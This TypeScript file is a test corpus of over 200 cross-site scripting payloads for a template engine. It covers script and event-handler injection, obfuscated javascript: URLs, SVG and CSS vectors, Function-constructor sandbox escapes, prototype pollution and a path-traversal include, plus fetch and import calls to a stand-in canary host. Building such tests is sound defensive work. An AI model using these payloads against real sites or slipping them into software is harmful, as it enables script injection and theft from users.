/**
 * Payloads that must never run script through a template. A payload that
 * would run calls `window.__xss()`, sets `window.__xssFlag = 1` or fetches
 * http://canary.test/, so a test in a real browser can tell.
 *
 * - `template`: `payload` is a template's JSX (and `css`, when given, its CSS).
 * - `frameData` / `parameter`: `payload` is a string put in frame data as
 *   `frame.x` or in a parameter as `params.x`, rendered by `xssHarnessTemplate`.
 *
 * http://canary.test/ appears only where the engine must refuse it, never
 * where an http address is allowed (an <img src>, a stylesheet url()).
 */
export type XssPayload = {
  readonly name: string;
  readonly where: "template" | "frameData" | "parameter";
  readonly payload: string;
  readonly css?: string;
};

/** Renders `frame.x` and `params.x` as text, as URLs, as styles and as other attributes. */
export const xssHarnessTemplate = `<section className="harness">
  <p className="as-text">{frame.x}</p>
  <a className="as-href" href={frame.x} title={frame.x}>frame link</a>
  <img className="as-src" src={frame.x} alt={frame.x} />
  <div className={frame.x} data-x={frame.x} style={{ background: frame.x, color: frame.x }}>frame style</div>
  <div style={frame.x}>frame style text</div>
  <svg viewBox="0 0 10 10"><a href={frame.x}><text x="0" y="5">svg link</text></a></svg>
  <p className="param-text">{params.x}</p>
  <a className="param-href" href={params.x}>param link</a>
  <img className="param-src" src={params.x} alt="" />
  <div style={{ backgroundImage: params.x }} title={params.x}>param style</div>
  {[frame.x, params.x].map((value, i) => <span key={i} className={"item-" + value}>{value}</span>)}
</section>`;

const template = (name: string, payload: string, css?: string): XssPayload =>
  css === undefined ? { name, where: "template", payload } : { name, where: "template", payload, css };
const frameData = (name: string, payload: string): XssPayload => ({ name, where: "frameData", payload });
const parameter = (name: string, payload: string): XssPayload => ({ name, where: "parameter", payload });

const markup: XssPayload[] = [
  template("script element", "<script>window.__xss()</script>"),
  template("script element with src", '<script src="http://canary.test/x.js"></script>'),
  template("script inside a div", "<div><script>{'window.__xss()'}</script></div>"),
  template("img onError as text", '<img src="x" onError="window.__xss()" />'),
  template("img onerror lower case", '<img src="x" onerror="window.__xss()" />'),
  template("img ONERROR upper case", '<img src="x" ONERROR="window.__xss()" />'),
  template("img onError as an arrow function", '<img src="x" onError={() => window.__xss()} />'),
  template("img onerror as raw HTML", "<img src=x onerror=window.__xss()>"),
  template("img onerror through a spread", '<img src="x" {...{ onerror: "window.__xss()" }} />'),
  template("div onClick as text", '<div onClick="window.__xss()">click</div>'),
  template(
    "div onMouseOver arrow with assignment",
    "<div onMouseOver={() => { window.__xssFlag = 1; return 1 }}>x</div>",
  ),
  template(
    "event handler reading the DOM from the event",
    '<a href="#" onClick={(e) => e.target.ownerDocument.defaultView.__xss()}>x</a>',
  ),
  template(
    "handlers through a spread object",
    '<div {...{ onClick: "window.__xss()", onMouseOver: "window.__xss()" }}>x</div>',
  ),
  template("details onToggle", '<details open onToggle="window.__xss()"><summary>x</summary></details>'),
  template("body onload", '<body onLoad="window.__xss()"></body>'),
  template("marquee onstart", '<marquee onStart="window.__xss()">x</marquee>'),
  template("custom element with is and a handler", '<div is="x-evil" onFocusIn="window.__xss()" tabIndex="0">x</div>'),
  template("isindex", '<isindex type="image" src="1" onError="window.__xss()" />'),
  template("input autofocus onFocus", '<input autoFocus onFocus="window.__xss()" />'),
  template("textarea raw HTML", "<textarea><img src=x onerror=window.__xss()></textarea>"),
  template("template element", '<template><img src="x" onError="window.__xss()" /></template>'),
  template("noscript breakout", '<noscript><p title="</noscript><img src=x onerror=window.__xss()>"></p></noscript>'),
  template("form action javascript", '<form action="javascript:window.__xss()"><button>go</button></form>'),
  template("button formAction javascript", '<button formAction="javascript:window.__xss()">go</button>'),
  template("video poster javascript", '<video poster="javascript:window.__xss()" />'),
  template("iframe srcdoc", '<iframe srcDoc="<script>parent.__xss()</script>"></iframe>'),
  template("iframe src javascript", '<iframe src="javascript:parent.__xss()"></iframe>'),
  template("srcdoc on an allowed element", '<div srcdoc="<script>parent.__xss()</script>">x</div>'),
  template("object data javascript", '<object data="javascript:window.__xss()"></object>'),
  template("object data html", '<object data="data:text/html,<script>parent.__xss()</script>"></object>'),
  template("embed src javascript", '<embed src="javascript:window.__xss()" />'),
  template(
    "embed svg data",
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss()'/>\" />",
  ),
  template("base href javascript", '<base href="javascript:window.__xss()//" />'),
  template("base href canary", '<base href="http://canary.test/" />'),
  template("meta refresh javascript", '<meta httpEquiv="refresh" content="0;url=javascript:window.__xss()" />'),
  template("meta refresh canary", '<meta http-equiv="refresh" content="0;url=http://canary.test/" />'),
  template("link stylesheet canary", '<link rel="stylesheet" href="http://canary.test/x.css" />'),
  template("link preload canary", '<link rel="preload" as="fetch" href="http://canary.test/" />'),
  template("style import", "<style>{\"@import 'http://canary.test/x.css';\"}</style>"),
  template("style element url javascript", '<style>{"p{background:url(javascript:window.__xss())}"}</style>'),
  template("title element hoisted to head", "<title>{'</title><script>window.__xss()</script>'}</title>"),
  template(
    "dangerouslySetInnerHTML",
    '<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=window.__xss()>" }} />',
  ),
  template(
    "dangerouslySetInnerHTML through a spread",
    '<div {...{ dangerouslySetInnerHTML: { __html: "<img src=x onerror=window.__xss()>" } }} />',
  ),
  template("markup in a string expression", '<p>{"<img src=x onerror=window.__xss()>"}</p>'),
  template("script close in text", '<p>{"</script><script>window.__xss()</script>"}</p>'),
  template("attribute quote breakout", '<p title="&quot; onmouseover=&quot;window.__xss()">x</p>'),
];

const urls: XssPayload[] = [
  template("a href javascript", '<a href="javascript:window.__xss()">x</a>'),
  template("a href mixed case", '<a href="JaVaScRiPt:window.__xss()">x</a>'),
  template("a href leading space", '<a href=" javascript:window.__xss()">x</a>'),
  template("a href decimal entity", '<a href="&#106;avascript:window.__xss()">x</a>'),
  template("a href padded decimal entity", '<a href="&#0000106avascript:window.__xss()">x</a>'),
  template(
    "a href hex entities",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss()">x</a>',
  ),
  template("a href tab entity", '<a href="java&#x09;script:window.__xss()">x</a>'),
  template("a href newline entity", '<a href="java&#x0A;script:window.__xss()">x</a>'),
  template("a href colon entity", '<a href="javascript&colon;window.__xss()">x</a>'),
  template("a href expression", '<a href={"javascript:window.__xss()"}>x</a>'),
  template("a href concatenated", '<a href={"java" + "script:window.__xss()"}>x</a>'),
  template("a href template literal", `<a href={\`javascript:\${'window.__xss()'}\`}>x</a>`),
  template("a href data html", '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoKTwvc2NyaXB0Pg==">x</a>'),
  template("a href vbscript", '<a href="vbscript:window.__xss()">x</a>'),
  template("a href javascript with comment", '<a href="javascript://%0Awindow.__xss()">x</a>'),
  template("img src javascript", '<img src="javascript:window.__xss()" />'),
  template(
    "img src svg data",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss()'/>\" />",
  ),
  template("blockquote cite javascript", '<blockquote cite="javascript:window.__xss()">q</blockquote>'),
];

const svg: XssPayload[] = [
  template("svg onload", '<svg onLoad="window.__xss()"></svg>'),
  template("svg onload lower case", '<svg onload="window.__xss()"><rect width="1" height="1" /></svg>'),
  template("svg animate onbegin", '<svg><animate onBegin="window.__xss()" attributeName="x" dur="1s" /></svg>'),
  template("svg set handler attribute", '<svg><set attributeName="onmouseover" to="window.__xss()" /></svg>'),
  template(
    "svg animate href to javascript",
    '<svg><animate attributeName="href" values="javascript:window.__xss()" /><a><text x="0" y="20">x</text></a></svg>',
  ),
  template("svg animateTransform", '<svg><animateTransform onEnd="window.__xss()" attributeName="transform" /></svg>'),
  template(
    "svg use href data",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='window.__xss()' /></svg>#x\" /></svg>",
  ),
  template("svg use xlink:href canary", '<svg><use xlink:href="http://canary.test/x.svg#a" /></svg>'),
  template("svg foreignObject", '<svg><foreignObject><img src="x" onError="window.__xss()" /></foreignObject></svg>'),
  template("svg script", "<svg><script>{'window.__xss()'}</script></svg>"),
  template("svg a href javascript", '<svg><a href="javascript:window.__xss()"><text>x</text></a></svg>'),
  template(
    "svg a xlink:href javascript",
    '<svg><a xlink:href="javascript:window.__xss()"><rect width="10" height="10" /></a></svg>',
  ),
  template("svg a href entity", '<svg><a href="&#106;avascript:window.__xss()"><text>x</text></a></svg>'),
  template("svg image href javascript", '<svg><image href="javascript:window.__xss()" /></svg>'),
  template("svg style import", "<svg><style>{\"@import 'http://canary.test/x.css';\"}</style></svg>"),
  template(
    "svg fill external paint",
    '<svg><rect width="1" height="1" fill="url(http://canary.test/p.svg#x)" /></svg>',
  ),
  template("svg handler on a shape", '<svg><circle r="5" onMouseOver="window.__xss()" /></svg>'),
  template(
    "math maction",
    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss()">x</maction></math>',
  ),
  template("math href", '<math href="javascript:window.__xss()">x</math>'),
];

const styles: XssPayload[] = [
  template("inline style url javascript", '<div style={{ background: "url(javascript:window.__xss())" }}>x</div>'),
  template("inline style url canary", '<div style={{ backgroundImage: "url(http://canary.test/)" }}>x</div>'),
  template("inline style expression", '<div style={{ width: "expression(window.__xss())" }}>x</div>'),
  template("inline style text url", '<div style="background:url(javascript:window.__xss())">x</div>'),
  template("inline style escaped url", '<div style={{ background: "u\\\\72l(http://canary.test/)" }}>x</div>'),
  template("inline style behavior", '<div style={{ behavior: "url(http://canary.test/x.htc)" }}>x</div>'),
  template("inline style moz binding", '<div style={{ MozBinding: "url(http://canary.test/x.xml#xss)" }}>x</div>'),
  template(
    "inline style image-set",
    "<div style={{ backgroundImage: \"image-set('http://canary.test/' 1x)\" }}>x</div>",
  ),
  template("inline style cssText", '<div style={{ cssText: "background:url(http://canary.test/)" }}>x</div>'),
  template("stylesheet import", '<p className="x">x</p>', "@import url(http://canary.test/x.css);"),
  template(
    "stylesheet import in media",
    '<p className="x">x</p>',
    "@media all { @import url(http://canary.test/x.css); .x { color: red } }",
  ),
  template(
    "stylesheet font-face from another site",
    '<p className="x">x</p>',
    "@font-face { font-family: evil; src: url(http://canary.test/f.woff2) } .x { font-family: evil }",
  ),
  template("stylesheet url javascript", '<p className="x">x</p>', ".x { background: url(javascript:window.__xss()) }"),
  template(
    "stylesheet escaped url javascript",
    '<p className="x">x</p>',
    ".x { background: u\\72l(javascript:window.__xss()) }",
  ),
  template("stylesheet expression", '<p className="x">x</p>', ".x { width: expression(window.__xss()) }"),
  template("stylesheet behavior", '<p className="x">x</p>', ".x { behavior: url(http://canary.test/x.htc) }"),
  template(
    "stylesheet moz binding",
    '<p className="x">x</p>',
    ".x { -moz-binding: url(http://canary.test/x.xml#xss) }",
  ),
  template(
    "stylesheet image-set javascript",
    '<p className="x">x</p>',
    ".x { background-image: image-set('javascript:window.__xss()' 1x) }",
  ),
  template(
    "stylesheet closing the style element",
    '<p className="x">x</p>',
    ".x::after { content: '</style><script>window.__xss()</script>' }",
  ),
  template(
    "stylesheet broken string escaping the scope",
    '<p className="x">x</p>',
    '.x { content: "open\n} body { background: url(javascript:window.__xss()) }',
  ),
  template(
    "stylesheet data url",
    '<p className="x">x</p>',
    ".x { background: url(data:image/svg+xml,<svg onload=window.__xss()>) }",
  ),
];

const expressions: XssPayload[] = [
  template("window call", "<p>{window.__xss()}</p>"),
  template("globalThis call", "<p>{globalThis.__xss()}</p>"),
  template("self call", "<p>{self.__xss()}</p>"),
  template("top call", "<p>{top.__xss()}</p>"),
  template("window.top call", "<p>{window.top.__xss()}</p>"),
  template("parent call", "<p>{parent.__xss()}</p>"),
  template("bare global call", "<p>{__xss()}</p>"),
  template("Function constructor", '<p>{Function("window.__xss()")()}</p>'),
  template("array constructor constructor", '<p>{[].constructor.constructor("window.__xss()")()}</p>'),
  template("computed constructor", '<p>{[]["constructor"]["constructor"]("window.__xss()")()}</p>'),
  template("fmt.date constructor", '<p>{fmt.date.constructor("window.__xss()")()}</p>'),
  template("concatenated constructor key", '<p>{fmt.number["constr" + "uctor"]("window.__xss()")()}</p>'),
  template("constructor key from data", "<p>{fmt.number[frame.k]('window.__xss()')()}</p>"),
  template("arrow function constructor", '<p>{(() => {}).constructor("window.__xss()")()}</p>'),
  template("string constructor", "<p>{''.constructor.constructor('window.__xss()')()}</p>"),
  template("getPrototypeOf", '<p>{Object.getPrototypeOf(fmt.number).constructor("window.__xss()")()}</p>'),
  template("Reflect construct", '<p>{Reflect.construct(Function, ["window.__xss()"])()}</p>'),
  template("this constructor", '<p>{this.constructor.constructor("window.__xss()")()}</p>'),
  template("eval", '<p>{eval("window.__xss()")}</p>'),
  template("setTimeout with text", '<p>{setTimeout("window.__xss()", 0)}</p>'),
  template("fetch canary", '<p>{fetch("http://canary.test/")}</p>'),
  template("new Image canary", '<p>{new Image().src = "http://canary.test/"}</p>'),
  template("dynamic import", '<p>{import("http://canary.test/x.js")}</p>'),
  template("tagged template", `<p>{String.raw\`\${window.__xss()}\`}</p>`),
  template("template literal", `<p>{\`\${window.__xss()}\`}</p>`),
  template("template literal with constructor", `<p>{\`\${[].constructor.constructor("window.__xss()")()}\`}</p>`),
  template("document.location assignment", '<p>{document.location = "javascript:window.__xss()"}</p>'),
  template("location.href assignment", '<p>{location.href = "javascript:window.__xss()"}</p>'),
  template("document.write", '<p>{document.write("<img src=x onerror=window.__xss()>")}</p>'),
  template("innerHTML assignment", '<p>{document.body.innerHTML = "<img src=x onerror=window.__xss()>"}</p>'),
  template("map with a global function", "<p>{[1].map(window.__xss)}</p>"),
  template("bind a global function", "<p>{[1].map(fmt.number.call.bind(window.__xss))}</p>"),
  template("toString hijack", "<p>{'' + { toString: () => window.__xss() }}</p>"),
  template("sort comparator calling a global", "<p>{[2, 1].sort(() => window.__xss())}</p>"),
  template("prototype pollution by assignment", "<p>{({}).__proto__.__xssFlag = 1}</p>"),
  template("Object.prototype assignment", "<p>{Object.prototype.__xssFlag = 1}</p>"),
  template("prototype pollution through frame", "<p>{frame.__proto__.toString = () => window.__xss()}</p>"),
  template("Object.assign onto the prototype", "<p>{Object.assign(Object.prototype, { __xssFlag: 1 })}</p>"),
  template("__proto__ key in an object literal", "<p>{({ ['__proto__']: { __xssFlag: 1 } }).__xssFlag}</p>"),
  template("__proto__ key from data", "<p>{({ [frame.p]: { __xssFlag: 1 } }).__xssFlag}</p>"),
  template("JSON.parse with __proto__", '<p>{JSON.parse(\'{"__proto__": {"__xssFlag": 1}}\')}</p>'),
  template("include outside the templates", '<Include path="../../etc/passwd" />'),
  template("include of an inherited name", '<Include path="constructor" />'),
  template("include with an expression path", '<Include path={"shared/" + frame.k} />'),
];

const dataStrings: [string, string][] = [
  ["script element", "<script>window.__xss()</script>"],
  ["img onerror markup", "<img src=x onerror=window.__xss()>"],
  ["attribute breakout double quote", '"><img src=x onerror=window.__xss()>'],
  ["attribute breakout single quote", "'><svg onload=window.__xss()>"],
  ["javascript url", "javascript:window.__xss()"],
  ["javascript url upper case", "JAVASCRIPT:window.__xss()"],
  ["javascript url leading space", " javascript:window.__xss()"],
  ["javascript url leading tab", "\tjavascript:window.__xss()"],
  ["javascript url split by newline", "java\nscript:window.__xss()"],
  ["javascript url split by NUL", "java\u0000script:window.__xss()"],
  ["javascript url after a control character", "\u0001javascript:window.__xss()"],
  ["javascript url after line separators", "\u2028\u2029javascript:window.__xss()"],
  ["javascript url with a zero-width space", "java\u200bscript:window.__xss()"],
  ["javascript url decimal entity", "&#106;avascript:window.__xss()"],
  ["javascript url hex entity", "&#x6A;avascript:window.__xss()"],
  ["javascript url colon entity", "javascript&colon;window.__xss()"],
  ["javascript url numeric colon", "javascript&#58;window.__xss()"],
  ["javascript url tab entity", "jav&#x09;ascript:window.__xss()"],
  ["data html url", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoKTwvc2NyaXB0Pg=="],
  ["data svg url", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss()'/>"],
  ["vbscript url", "vbscript:window.__xss()"],
  ["css url javascript", "url(javascript:window.__xss())"],
  ["css declaration breakout", "red; background: url(javascript:window.__xss())"],
  ["css url canary", 'url("http://canary.test/")'],
  ["css expression", "expression(window.__xss())"],
  ["style element breakout", "</style><script>window.__xss()</script>"],
  ["template injection braces", "{{constructor.constructor('window.__xss()')()}}"],
  ["template literal injection", `\${window.__xss()}`],
  ["JSX expression injection", "{window.__xss()}"],
  ["iframe srcdoc markup", '<iframe srcdoc="<script>parent.__xss()</script>">'],
  ["link markup", '<a href="javascript:window.__xss()">x</a>'],
  ["escaped markup", "&lt;script&gt;window.__xss()&lt;/script&gt;"],
  ["proto key", "__proto__"],
  ["constructor key", "constructor"],
];

const parameterOnly: [string, string][] = [
  [
    "polyglot",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.__xss()//'>",
  ],
  ["svg slash onload", "<svg/onload=window.__xss()>"],
  ["single quote handler breakout", "' onmouseover='window.__xss()"],
  ["javascript url with a comment line", "javascript://%0Awindow.__xss()"],
  ["data url short", "data:,window.__xss()"],
  ["data url after spaces", "   data:text/html,<script>window.__xss()</script>"],
  ["fetch canary from a javascript url", "javascript:fetch('http://canary.test/')"],
  ["flag from a javascript url", "javascript:window.__xssFlag=1"],
];

/** Every payload (more than 200); names are unique across the corpus. */
export const xssCorpus: readonly XssPayload[] = [
  ...markup,
  ...urls,
  ...svg,
  ...styles,
  ...expressions,
  ...dataStrings.map(([name, payload]) => frameData(`frame data: ${name}`, payload)),
  ...[...dataStrings, ...parameterOnly].map(([name, payload]) => parameter(`parameter: ${name}`, payload)),
];
